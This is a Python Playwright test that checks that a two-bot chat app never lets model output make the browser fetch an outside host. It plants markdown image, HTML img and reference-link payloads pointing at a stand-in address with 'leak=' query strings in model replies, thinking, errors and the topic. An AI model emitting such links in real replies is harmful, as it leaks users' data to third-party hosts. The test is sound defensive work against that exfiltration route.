"""Nothing is fetched from model output: Chromium records every request the page makes.

A model that writes ``![x](http://203.0.113.7/track.png?leak=...)`` in its reply, its
thinking or a provider error, and a person who types one into the topic, must not make the
viewer's browser request that host: while the turn streams, once it is finished, in the
Thinking area, in the error box, and on the History page. Every request must go to the app.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Page, expect

from duet_core.models import BotConfig, RunConfig
from tests.browser import ui
from tests.browser.conftest import AppServer
from tests.providers.provider_fakes import (
    FakeServer,
    anthropic_error,
    anthropic_stream,
    openai_stream,
)

pytestmark = pytest.mark.browser
HOST = "203.0.113.7"  # TEST-NET-3: nothing answers there, but a request is still made


def image(leak: str) -> str:
    return f"![{leak}](http://{HOST}/track.png?leak={leak})"


@pytest.fixture(scope="module")
def model() -> Iterator[FakeServer]:
    server = FakeServer().start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, model: FakeServer) -> Iterator[AppServer]:
    tmp = tmp_path_factory.mktemp("nofetch")
    server = AppServer(
        {
            "DUET_DEV_MODE": "1",
            "DUET_DATABASE_URL": f"sqlite:///{tmp / 'duet.db'}",
            "OPENAI_BASE_URL": f"{model.url}/v1",
            "ANTHROPIC_BASE_URL": model.url,
            "OPENAI_API_KEY": "sk-fake-openai",
            "ANTHROPIC_API_KEY": "sk-fake-anthropic",
        },
        tmp / "streamlit.log",
    )
    server.start()
    yield server
    server.stop()


def test_model_output_never_makes_the_browser_fetch(
    page: Page, app: AppServer, model: FakeServer, tmp_path: Path
) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    model.push(
        anthropic_stream(
            text=["Look: ", image("streaming"), " and more words ", "to read."],
            thinking=["I think ", image("thinking"), " so."],
        ).slowly(0.3),
        openai_stream(
            [
                "Second ",
                image("finished"),
                f' <img src="http://{HOST}/track.png?leak=html"> ',
                f"![ref][r]\n\n[r]: http://{HOST}/track.png?leak=reference\n\n turn.",
            ]
        ),
        anthropic_error(400, "invalid_request_error", f"Refused {image('error')}"),
    )
    setup = RunConfig(
        topic=f"Pictures {image('topic')}",
        max_turns=3,
        bots=[
            BotConfig(name="Ada", provider="anthropic", model="claude-sonnet-5-5"),
            BotConfig(name="Bob", provider="openai", model="gpt-4o-mini", temperature=0.5),
        ],
    )
    file = tmp_path / "setup.json"
    file.write_text(setup.dump_json())
    ui.open_app(page, app.url)
    page.get_by_role("button", name="Load setup").click()
    page.locator(ui.key("load_setup")).locator("input[type=file]").set_input_files(file)
    expect(page.get_by_text("Loaded setup.json.")).to_be_visible()

    ui.start(page)
    expect(page.get_by_text("and more words")).to_be_visible()  # drawn while streaming
    expect(ui.header(page)).to_contain_text("error")
    expect(page.get_by_text("Refused")).to_be_visible()  # the error box
    # the Thinking area is drawn (folded or not, its images would be fetched all the same)
    expect(page.get_by_text("I think").first).to_be_attached()
    expect(page.get_by_role("link", name="🖼 finished")).to_be_visible()  # kept as a link
    ui.wait_idle(page)
    on_conversation_page = [u for u in requested if HOST in u]
    assert not on_conversation_page  # streaming, thinking, finished turns, the error box
    page.get_by_role("link", name="Open in History").click()
    expect(page.locator(ui.key("download_csv")).get_by_role("button")).to_be_visible()
    expect(page.get_by_text("Second").first).to_be_visible()
    expect(page.get_by_text("I think").first).to_be_attached()
    ui.wait_idle(page)

    app_host = urlparse(app.url).netloc
    elsewhere = [
        u
        for u in requested
        if urlparse(u).scheme in ("http", "https", "ws", "wss") and urlparse(u).netloc != app_host
    ]
    assert requested
    # every renderer draws through duet_ui.shared.transcript.render_markdown / render_error
    assert not elsewhere
